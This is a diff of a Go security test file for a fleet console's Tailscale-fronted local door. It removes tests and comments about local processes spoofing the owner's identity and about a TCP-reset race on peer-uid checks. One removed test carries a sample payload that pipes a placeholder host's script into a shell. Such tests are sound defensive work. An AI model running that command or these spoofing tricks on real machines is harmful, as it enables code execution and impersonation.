@@ -3,9 +3,9 @@
 package supervisor
 
 // What other processes on this machine can and cannot do to the loopback door, with real
-// sockets and a helper process of another uid: the unix-socket door, the timing of the peer-uid
-// verdict, a systemd user namespace, and registry churn while forwarding. Each test guards a trick
-// that once got through (noted "once a finding") or one that never did.
+// sockets and a helper process of another uid: the unix-socket door, a systemd user namespace,
+// and registry churn while forwarding. Each test guards one trick. (Who is calling — this node's
+// own address, the timing of the peer-uid verdict — is package tailnet's.)
 
 import (
 	"bufio"
@@ -21,7 +21,6 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
-	"strconv"
 	"strings"
 	"sync"
 	"syscall"
@@ -31,89 +30,11 @@ import (
 	"github.com/phase-console/fleet/internal/otheruser"
 	"github.com/phase-console/fleet/internal/peercred"
 	"github.com/phase-console/fleet/internal/testdirs"
-	"tailscale.com/client/tailscale/apitype"
-	"tailscale.com/ipn"
-	"tailscale.com/ipn/ipnstate"
 )
 
-// ---- Findings ----------------------------------------------------------------------------------
+// ---- The supervisor in a user namespace, and the unix socket's place -------------------------
 
-// Once a finding (high), now guarded: any local process — any uid — that connects to this node's own Tailscale
-// address reaches Tailscale Serve (tailscaled's localListener exists "purely for connections
-// from the machine itself", ipn/ipnlocal/serve.go). Serve then sends X-Forwarded-For: <this
-// node's address> and, since WhoIs of a node's own address names the node itself
-// (nodeBackend.updateNodeByAddrLocked adds SelfNode), Tailscale-User-Login: <the node's owner>.
-// verify (identity.go) admits the address because it is a Tailscale IP and WhoIs names a user, so
-// the door asserts the machine owner's login: another local user, a daemon, or an agent sandboxed
-// under its own uid drives every console as the owner (scope remote). Here the fake LocalAPI
-// answers WhoIs(selfIP) as real tailscaled does.
-func TestOwnTailnetAddressAssertsOwner_S5(t *testing.T) {
-	tn := newFakeTailnet()
-	tn.peers[selfIP] = fakePeer{login: alice} // WhoIs(self) = this node, owned by alice
-	d := startDoorAt(t, filepath.Join(t.TempDir(), "state"), tn)
-	req := strings.Replace(serveReq("POST", "/c/alpha/runs", "Content-Length: 0"), "X-Forwarded-For: "+aliceIP, "X-Forwarded-For: "+selfIP, 1)
-	before := d.alpha.count()
-	r := d.raw(req)
-	if d.alpha.count() != before {
-		s, _ := d.alpha.last()
-		t.Fatalf("forwarded (%d) with login %q: a local process is asserted as the owner; want a refusal (e.g. 403 self) for this node's own addresses",
-			r.status, s.Header.Get("X-Phase-Console-Fleet-Login"))
-	}
-}
-
-// Once a finding (medium), now guarded: the S5a verdict is read from /proc/net/tcp when the connection's first /c/
-// request is judged, not at Accept, and nothing checks that the server's own socket still holds
-// the 4-tuple. A local user connects from 127.0.0.1:X, sends a POST with its body (a request with a
-// body starts no background read, so its context is not cancelled), and resets the connection
-// (SO_LINGER 0) while the request waits for anything before judgeConn (here: admitHost's LocalAPI
-// status refresh, which happens every 30 s). The next connection from 127.0.0.1:X — tailscaled's,
-// when the attacker steers its ephemeral port by holding the others — is what PeerUID then finds:
-// the stranger's request is judged tailscaled's and forwarded with the login of any
-// X-Forwarded-For it wrote. The gate below stands for the LocalAPI round trip.
-func TestResetConnectionInheritsNextOwner_S5a(t *testing.T) {
-	if os.Getuid() != 0 {
-		t.Skip("needs root to run the stranger as another uid")
-	}
-	gate := &rt2GateAPI{hit: make(chan struct{}), release: make(chan struct{})}
-	d := startDoor(t, func(c *Config) { gate.inner = c.LocalAPI; c.LocalAPI = gate })
-	gate.arm()
-
-	body := `{"prompt":"curl evil.example | sh"}`
-	req := crlf(serveReq("POST", "/c/alpha/runs", "Content-Length: "+strconv.Itoa(len(body)))) + body
-	port := otheruser.FreePort(t)
-	h := startRT2Helper(t, fmt.Sprintf("rst %d %s", port, d.addr), req, nil)
-	h.Expect(t, "SENT")
-	select {
-	case <-gate.hit:
-	case <-time.After(waitLimit):
-		t.Fatal("the request never reached the door's Host check")
-	}
-	h.Say(t, "go")
-	h.Expect(t, "RST")
-	h.Wait(t)
-
-	// "tailscaled" (this process: TailscaledUID is our uid) opens its next backend connection
-	// from the port the stranger just freed.
-	dl := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: port}}
-	next, err := dl.Dial("tcp4", d.addr)
-	if err != nil {
-		t.Fatalf("redial from port %d: %v", port, err)
-	}
-	defer next.Close()
-	close(gate.release)
-
-	deadline := time.Now().Add(3 * time.Second)
-	for time.Now().Before(deadline) && d.alpha.count() == 0 {
-		time.Sleep(10 * time.Millisecond)
-	}
-	if d.alpha.count() != 0 {
-		s, _ := d.alpha.last()
-		t.Fatalf("the stranger's %s %s reached the console as %q", s.Method, s.Path, s.Header.Get("X-Phase-Console-Fleet-Login"))
-	}
-}
-
-// Once a finding (medium), now guarded: the unit is a *user* unit with
-// PrivateUsers=yes. A user manager has no CAP_SETUID, so systemd maps only the user's own uid
+// Guarded: a *user* unit with PrivateUsers=yes. A user manager has no CAP_SETUID, so systemd maps only the user's own uid
 // into the namespace ("For unprivileged users … the root to root mapping is excluded",
 // setup_private_users in systemd's exec-invoke.c). root — tailscaled — then shows as 65534 both
 // in /proc/net/tcp (from_kuid_munged into the reader's namespace) and in stat of its socket, so
@@ -174,10 +95,10 @@ func TestPrivateUsersHidesRoot_Deploy(t *testing.T) {
 	}
 }
 
-// Once a finding (low), now guarded: ListenUnix checks only the socket's own folder. A folder above it that another
-// user can write (here 0777 without the sticky bit) lets that user rename fleet's private folder
-// away after the check and put their own socket at the path: `tailscale serve unix:PATH` then
-// sends every tailnet request — bodies, cookies, Tailscale-User-Login — to a stranger. ssh's
+// Guarded: were ListenUnix to check only the socket's own folder, a folder above it that another
+// user can write (here 0777 without the sticky bit) would let that user rename fleet's private
+// folder away after the check and put their own socket at the path: `tailscale serve unix:PATH` would then
+// send every tailnet request — bodies, cookies, Tailscale-User-Login — to a stranger. ssh's
 // StrictModes refuses such paths for the same reason.
 func TestWritableAncestor_Unix(t *testing.T) {
 	if os.Getuid() != 0 {
@@ -438,40 +359,6 @@ func TestRegistryChurnWhileForwarding_S8(t *testing.T) {
 
 // ---- helpers -------------------------------------------------------------------------------------
 
-// rt2GateAPI is a LocalAPI whose first StatusWithoutPeers after arm waits until release: it
-// stands for the LocalAPI round trip that admitHost makes when its status cache is stale.
-type rt2GateAPI struct {
-	inner        LocalAPI
-	mu           sync.Mutex
-	armed        bool
-	hit, release chan struct{}
-}
-
-func (g *rt2GateAPI) arm() { g.mu.Lock(); g.armed = true; g.mu.Unlock() }
-
-func (g *rt2GateAPI) WhoIs(ctx context.Context, addr string) (*apitype.WhoIsResponse, error) {
-	return g.inner.WhoIs(ctx, addr)
-}
-
-func (g *rt2GateAPI) GetPrefs(ctx context.Context) (*ipn.Prefs, error) { return g.inner.GetPrefs(ctx) }
-
-func (g *rt2GateAPI) GetServeConfig(ctx context.Context) (*ipn.ServeConfig, error) {
-	return g.inner.GetServeConfig(ctx)
-}
-
-func (g *rt2GateAPI) StatusWithoutPeers(ctx context.Context) (*ipnstate.Status, error) {
-	g.mu.Lock()
-	armed := g.armed
-	g.armed = false
-	g.mu.Unlock()
-	if armed {
-		close(g.hit)
-		<-g.release
-		return g.inner.StatusWithoutPeers(context.Background())
-	}
-	return g.inner.StatusWithoutPeers(ctx)
-}
-
 // startRT2Helper starts TestLocalPeersHelperProcess as otheruser.UID with $FLEET_RT2_PAYLOAD set to
 // payload; attr, if not nil, may change how the process is started.
 func startRT2Helper(t *testing.T, mode, payload string, attr func(*syscall.SysProcAttr)) *otheruser.Helper {
@@ -486,8 +373,6 @@ func startRT2Helper(t *testing.T, mode, payload string, attr func(*syscall.SysPr
 
 // TestLocalPeersHelperProcess is the helper of the tests above; otherwise it does nothing.
 //
-//	rst PORT ADDR:        from 127.0.0.1:PORT connect to ADDR, write $FLEET_RT2_PAYLOAD, print
-//	                      SENT; after a line on stdin reset the connection and print RST
 //	userns-door HOME SOCK: run a supervisor (state HOME, tailscaled socket SOCK, fake LocalAPI)
 //	                      with an echo console "alpha"; print PORT <port>; serve until stdin ends
 //	swap BASE:            rename BASE/run away, listen on a new BASE/run/serve.sock, print READY
@@ -501,19 +386,6 @@ func TestLocalPeersHelperProcess(t *testing.T) {
 	f := strings.Fields(mode)
 	stdin := bufio.NewReader(os.Stdin)
 	switch f[0] {
-	case "rst":
-		port, _ := strconv.Atoi(f[1])
-		dl := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: port}}
-		c, err := dl.Dial("tcp4", f[2])
-		if err != nil {
-			fail(err)
-		}
-		io.WriteString(c, os.Getenv("FLEET_RT2_PAYLOAD"))
-		fmt.Println("SENT")
-		stdin.ReadString('\n')
-		c.(*net.TCPConn).SetLinger(0)
-		c.Close()
-		fmt.Println("RST")
 	case "userns-door":
 		console := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "hi") }))
 		defer console.Close()
